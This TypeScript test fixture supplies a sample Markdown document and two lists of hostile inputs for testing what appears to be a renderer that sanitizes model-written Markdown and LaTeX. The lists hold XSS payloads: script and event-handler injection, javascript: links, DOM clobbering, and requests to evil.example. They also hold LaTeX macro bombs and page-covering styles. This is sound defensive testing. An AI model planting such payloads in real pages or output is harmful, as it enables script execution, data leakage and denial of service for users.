// Texts that several tests use.

export const DOCUMENT = `# A title

A paragraph with **bold**, *emphasis*, \`code\`, ~~gone~~ and a [link](https://example.org/a_(b)).
It goes on here.

1. one

2. two with a
   second line

   and a paragraph
3. three

- a
  - nested
  - list
- [x] done
- [ ] to do

* another list

> a quotation
> with **two** lines

| a | b |
|---|--:|
| 1 | 2 |
| 3 | 4 |

---

\`\`\`java
record Point(double x, double y) {}

// after an empty line
\`\`\`

~~~~text
\`\`\`
not the end
~~~
~~~~

Title of the second kind
------------------------

A formula $a_1 * b_2 * c$ and \\(x^{**}\\), for $5 or $6, then:

$$
x = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}
- [y](z)
$$

Set apart in a line \\[ \\begin{pmatrix} 1 & 2 \\\\[2pt] 3 & 4 \\end{pmatrix} \\] of text, and \`$code$\`.

Name: ñandú 🏃 日本語

The end.
`;

/** What a model might write to run, load or disguise something. Each calls `alert` or asks `evil.example` if it succeeds. */
export const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<style>*{background:url(http://evil.example/a)}</style>',
  '<p style="background:url(http://evil.example/b)">x</p>',
  '<form action="http://evil.example/c" id="input"><input name="body"><button>go</button></form>',
  '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="http://evil.example/d"></object><embed src="http://evil.example/e"><link rel=stylesheet href="http://evil.example/f">',
  '<a href="javascript:alert(1)" id="send" name="input">x</a> [y](javascript:alert(1)) [z](  JaVascript:alert(1) )',
  '[w](data:text/html,<script>alert(1)</script>) <javascript:alert(1)> <data:text/html,x>',
  '![i](http://evil.example/g.png) ![j](http://evil.example/h.png "onerror=alert(1)") <img srcset="http://evil.example/i 1x">',
  '<video poster="http://evil.example/j"><source src="http://evil.example/k" onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '[a](https://example.org "x" onmouseover="alert(1)) [b](https://example.org/"onclick="alert(1)")',
  '```"><img src=x onerror=alert(1)>\n</code></pre><img src=x onerror=alert(1)>\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '<kbd><img src=x onerror=alert(1) </kbd><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/l">',
  '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;',
  '[a](&#106;avascript:alert(1)) [b](java&Tab;script:alert(1)) [c](javascript&colon;alert(1)) [d]\n\n[d]: javascript:alert(1)\n',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<input autofocus onfocus=alert(1)><marquee onstart=alert(1)>x</marquee><body onload=alert(1)><dialog open id="settings">x</dialog>',
  '<form name="body"><input name="createElement"><img name="getElementById"></form><a id="thread"></a><a id="thread" name="thread"></a>',
  '<style>@import "http://evil.example/p";</style><link rel="prefetch" href="http://evil.example/q"><meta http-equiv="Content-Security-Policy" content="default-src *">',
  '![x](data:image/svg+xml;base64,PHN2Zy8+) <img src="//evil.example/r"> <picture><source srcset="http://evil.example/s"></picture> <http://evil.example/t.png>',
];

/** Formulas that would link, load, style, cover the page or never end. */
export const HOSTILE_MATHS = [
  '\\href{javascript:alert(1)}{x}',
  '\\url{http://evil.example/m}',
  '\\includegraphics[height=99em]{http://evil.example/n.png}',
  '\\htmlData{x=1}{y} \\htmlId{input}{y} \\htmlClass{composer}{y} \\htmlStyle{position:fixed;inset:0}{y}',
  '\\rule{100000em}{100000em} \\hspace{-99999em} \\raisebox{99999em}{x} \\kern-99999em',
  '\\text{<img src=x onerror=alert(1)>} \\text{</math><script>alert(1)</script>}',
  '\\verb|<svg onload=alert(1)>| \\color{red} \\colorbox{url(http://evil.example/o)}{x}',
  '\\def\\a{\\a\\a}\\a',
  '\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b\\b\\b}\\c\\c\\c\\c\\c\\c\\c\\c\\c',
  '{'.repeat(1_500) + '}'.repeat(1_500),
  '\\frac{'.repeat(400) + '1' + '}{2}'.repeat(400),
];
